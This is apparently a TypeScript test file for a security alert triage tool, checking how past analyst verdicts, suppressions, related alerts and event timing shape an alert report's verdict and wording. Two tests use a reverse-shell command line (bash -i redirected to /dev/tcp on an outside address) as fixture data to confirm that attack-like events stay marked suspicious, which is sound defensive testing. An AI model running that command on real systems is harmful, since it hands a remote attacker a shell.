import { describe, expect, test } from 'vitest'
import type { Outcome } from '../../src/domain/alert.ts'
import { openAlert, triage } from '../../src/domain/triage.ts'
import type { Suppression } from '../../src/domain/suppression.ts'
import { nothingFamiliar, watchOf, wires } from '../../src/domain/trip-wire.ts'
import { problemsIn } from '../../src/report/verify.ts'
import type { Material } from '../../src/report/report.ts'
import { anArrival, anEvent, morning } from '../event.ts'
import type { EventOverrides } from '../event.ts'
import { alertOf, dossierOf, reportOn, textOf } from './material.ts'

const shell = anEvent()
const hour = 3_600_000
const reported = (more: Partial<Material>, event = shell) => {
  const report = reportOn(event, more)
  expect(problemsIn(report)).toEqual([])
  return report
}
const judged = (outcome: Outcome, note: string, id = 'b1', event: EventOverrides = {}) =>
  dossierOf(anEvent(event), id, { status: 'resolved', by: 'U0ANA', at: morning - hour, outcome, note })

describe('how the same was judged before', () => {
  test('as benign, with a note: probably known, and less surely for a single verdict', () => {
    const once = reported({ judged: [judged('benign', 'nightly backup')] })
    expect(once.verdict).toMatchObject({ label: 'known maintenance', confidence: 'low' })
    expect(textOf(once, 'Verdict')).toContain(
      'U0ANA resolved alert b1 of the same problem as benign, 2026-11-24T08:30:00Z, noting nightly backup. Its command line was the same.',
    )
    const twice = reported({ judged: [judged('benign', 'nightly backup', 'b2'), judged('benign', 'backup', 'b1')] })
    expect(twice.verdict.confidence).toBe('medium')
  })

  test('as benign, without a note: that explains nothing, and is only told', () => {
    const report = reported({ judged: [judged('benign', ' ')] })
    expect(report.verdict.label).toBe('not settled')
    expect(textOf(report, 'Verdict')).toContain('as benign, 2026-11-24T08:30:00Z, without a note.')
  })

  test('as a true positive: that weighs more than any benign one', () => {
    const report = reported({ judged: [judged('benign', 'backup', 'b2'), judged('true positive', 'break-in')] })
    expect(report.verdict).toMatchObject({ label: 'seen before and judged true positive', confidence: 'medium' })
    expect(textOf(report, 'Verdict')).toContain('Against it: U0ANA resolved alert b2 of the same problem as benign')
    expect(textOf(report, 'Conclusion')).toContain('start containment unless somebody explains it now')
  })

  test('as a test', () => {
    expect(reported({ judged: [judged('test', 'drill')] }).verdict).toMatchObject({ label: 'perhaps a test', confidence: 'low' })
  })

  test('with another command line: a verdict on another deed settles nothing, and the difference is told', () => {
    const another = judged('benign', 'backup', 'b2', { fields: { 'proc.cmdline': 'bash backup.sh' } })
    const alone = reported({ judged: [another] })
    expect(alone.verdict).toMatchObject({ label: 'not settled', confidence: 'low' })
    expect(textOf(alone, 'Verdict')).toContain('Its command line was another: bash backup.sh.')
    const beside = reported({ judged: [another, judged('benign', 'backup')] })
    expect(beside.verdict).toMatchObject({ label: 'known maintenance', confidence: 'low' })
  })

  test('done to another thing: that settles nothing either, but a new near port is no difference', () => {
    const wrote = (path: string) => ({ fields: { 'evt.type': 'openat', 'fd.name': path } })
    const file = reported({ judged: [judged('benign', 'backup', 'b1', wrote('/etc/motd'))] }, anEvent(wrote('/etc/cron.d/x')))
    expect(file.verdict.label).toBe('not settled')
    expect(textOf(file, 'Verdict')).toContain('Its fd.name was another: /etc/motd.')
    const peer = (port: number) => wrote(`10.0.0.4:${port}->10.0.0.9:5432`)
    const connection = reported({ judged: [judged('benign', 'backup', 'b1', peer(50000))] }, anEvent(peer(50001)))
    expect(connection.verdict.label).toBe('known maintenance')
  })

  test('elsewhere nearby: it is told, and decides nothing', () => {
    const other = dossierOf(shell, 'b1', {
      fingerprint: 'another',
      status: 'resolved',
      by: 'U0ANA',
      at: morning,
      outcome: 'benign',
      note: 'backup',
    })
    const report = reported({ judged: [other] })
    expect(report.verdict.label).toBe('not settled')
    expect(textOf(report, 'Related activity')).toContain('of the same rule, elsewhere on the same workload or host as benign')
  })

  test('explains nothing that looks like an attack', () => {
    const event = anEvent({ fields: { 'proc.cmdline': 'bash -c bash -i >& /dev/tcp/203.0.113.24/4444' } })
    const report = reported({ judged: [judged('benign', 'backup')] }, event)
    expect(report.verdict.label).toBe('suspicious')
    expect(textOf(report, 'Verdict')).toContain('Against it: U0ANA resolved alert b1')
  })
})

describe('an alert that somebody has resolved already', () => {
  const attack = anEvent({ fields: { 'proc.cmdline': 'bash -c bash -i >& /dev/tcp/203.0.113.24/4444' } })
  const resolvedAs = (outcome: Outcome, note: string, event = shell) =>
    reported({ alert: Object.assign(alertOf(event), { status: 'resolved', by: 'U0ANA', at: morning, outcome, note }) }, event)

  test("is told by that person's outcome, and nobody is asked to settle it again", () => {
    const report = resolvedAs('true positive', 'the pod was taken over')
    expect(report.verdict).toMatchObject({ label: 'resolved as true positive', confidence: 'medium' })
    expect(textOf(report, 'Mitigation')).toMatch(/^Ask \S+, who resolved it, before anything below is done\.$/m)
    expect(textOf(report, 'Verdict')).toMatch(
      /^U0ANA resolved this alert as true positive, 2026-11-24T09:30:00Z, noting the pod was taken over\./,
    )
    expect(textOf(report)).not.toMatch(/not settled|resolves it by that answer/i)
    expect(textOf(report, 'Conclusion')).toContain('U0ANA has judged it real (true positive)')
    expect(textOf(report, 'Summary').match(/U0ANA resolved/g)).toHaveLength(1)
  })

  test('shows what the event itself shows beside the outcome, or against it', () => {
    expect(textOf(resolvedAs('true positive', 'real', attack), 'Verdict')).toMatch(/^What the command line asks for opens/m)
    const benign = resolvedAs('benign', 'a drill', attack)
    expect(benign.verdict).toMatchObject({ label: 'resolved as benign', confidence: 'medium' })
    expect(textOf(benign, 'Verdict')).toContain('Against it: What the command line asks for opens')
    expect(textOf(benign, 'Conclusion')).toContain('hold that against what speaks against it')
  })

  test('is less sure without a note that says why', () => {
    const sure = (note: string) => resolvedAs('false positive', note).verdict.confidence
    expect([sure('the backup'), sure(' ')]).toEqual(['medium', 'low'])
    expect(textOf(resolvedAs('false positive', 'the backup'), 'Conclusion')).toContain('Next: nothing, as U0ANA has closed it')
  })
})

describe('a suppression', () => {
  const suppression: Suppression = {
    id: 's1',
    scope: [{ field: 'rule', is: shell.rule }],
    from: morning - hour,
    until: morning + hour,
    reason: 'load test until noon',
    owner: 'U0BO',
    alert: undefined,
    hidden: 7,
    lastHiddenAt: morning,
    saved: 0,
    isFixed: false,
    watch: watchOf(wires, nothingFamiliar),
    approval: undefined,
    ended: undefined,
    facts: [],
  }

  test('gives a reason, which is told as its owner’s and is no verdict', () => {
    const report = reported({ suppressions: [suppression] })
    expect(report.verdict).toMatchObject({ label: 'not settled', confidence: 'low' })
    expect(textOf(report, 'Verdict')).toContain('with the reason load test until noon')
    expect(textOf(report, 'Related activity')).toContain(
      'A suppression by U0BO from 2026-11-24T08:30:00Z to 2026-11-24T10:30:00Z, with the reason load test until noon; it hid 7 events.',
    )
  })

  test('that was never approved explains nothing', () => {
    const approval = { because: 'it hides Critical', channel: '#falco', first: undefined, past: undefined, given: undefined }
    const report = reported({ suppressions: [{ ...suppression, approval }] })
    expect(report.verdict.label).toBe('not settled')
    expect(textOf(report, 'Related activity')).toContain('not approved')
  })
})

test('a rule that is new to its image is first-time behaviour, in what triage said, and that is no guilt', () => {
  const arrival = anArrival()
  const known = {
    repeatOf: undefined,
    newest: undefined,
    suppressions: [],
    combinationSeen: undefined,
    ledgerSince: morning - 60 * 24 * hour,
  }
  const verdict = triage(arrival, known, [{ match: {}, floor: undefined, channel: '#falco', mention: undefined }], hour)
  if (verdict.kind !== 'open') throw new Error('it should have opened an alert')
  const report = reported({ alert: openAlert('k3m9x2p7', arrival, verdict) })
  expect(report.verdict).toMatchObject({ label: 'not settled, first-time behaviour', confidence: 'low' })
  expect(textOf(report, 'Verdict')).toContain('it was the first of its rule with this image in 30 days. That makes it new, not guilty')
})

describe('other alerts', () => {
  const other = (rule: string, id: string, more: EventOverrides = {}) => dossierOf(anEvent({ rule, ...more }), id)
  const elsewhere = { 'container.id': 'ffffffffffff', 'k8s.pod.name': 'billing-6d4cf56db6-aaaaa', 'container.name': 'billing' }

  test('are ranked by what they share: the container, then the workload, then a process above or a user, and a host last', () => {
    const parent = { 'proc.pname': 'python3' }
    const report = reported(
      {
        related: [
          other('Same host', 'a4', { fields: elsewhere }),
          other('Same parent', 'a3', { fields: { ...elsewhere, ...parent } }),
          other('Same workload', 'a2', { fields: { 'container.id': 'eeeeeeeeeeee', 'k8s.pod.name': 'checkout-6d4cf56db6-zzzzz' } }),
          other('Same container', 'a1'),
        ],
      },
      anEvent({ fields: parent }),
    )
    const text = textOf(report, 'Related activity')
    const lines = [...text.matchAll(/^(Same \w+) on .*: shares ([^;]+);/gm)].map(([, rule, shares]) => [rule, shares])
    expect(lines).toEqual([
      ['Same container', 'the same container'],
      ['Same workload', 'the same workload'],
      ['Same parent', 'the name of a process above it, on the same host'],
    ])
    expect(text).toContain('1 more alert shares one of its hosts and nothing else, of 1 rule.')
  })

  test('of a storm on a shared node are one line', () => {
    const storm = Array.from({ length: 60 }, (_, index) => other(`Rule ${index % 3}`, `a${index}`, { fields: elsewhere }))
    const text = textOf(reported({ related: storm }), 'Related activity')
    expect(text).toContain('60 more alerts share one of its hosts and nothing else, of 3 rules.')
    expect(text).not.toContain('Rule 0 on')
  })

  test('that both run as root share no user', () => {
    const text = textOf(reported({ related: [other('Root too', 'a1', { fields: elsewhere })] }), 'Related activity')
    expect(text).toContain('1 more alert shares one of its hosts and nothing else')
  })
})

describe('the rhythm of its events', () => {
  const at = (...times: readonly number[]) => {
    const events = times.map((time) => ({
      event: anEvent({ time: new Date(time).toISOString() }),
      receivedAt: time,
      verdict: 'fold' as const,
    }))
    return textOf(reported({ events, alert: { ...alertOf(shell), count: times.length } }), 'Related activity')
  }

  test('as regular as a scheduled job', () => {
    const text = at(...Array.from({ length: 12 }, (_, index) => morning + index * 600_000 + (index % 2) * 2000))
    expect(text).toContain('They come regularly, about every 10 minutes, as a scheduled job')
    expect(text).toContain('in the hour from 2026-11-24T10:00:00Z on')
  })

  test('at no steady pace', () => {
    expect(at(morning, morning + 1000, morning + 90_000, morning + 100_000, morning + 3_000_000, morning + hour)).not.toContain('regularly')
  })

  test('within a moment', () => {
    expect(at(morning, morning + 40_000)).toContain('All within 40 seconds.')
  })

  test('every night at the same hour', () => {
    const text = at(...Array.from({ length: 5 }, (_, index) => morning + index * 24 * hour))
    expect(text).toContain('only in the same hour of the day (UTC): 9.')
  })
})
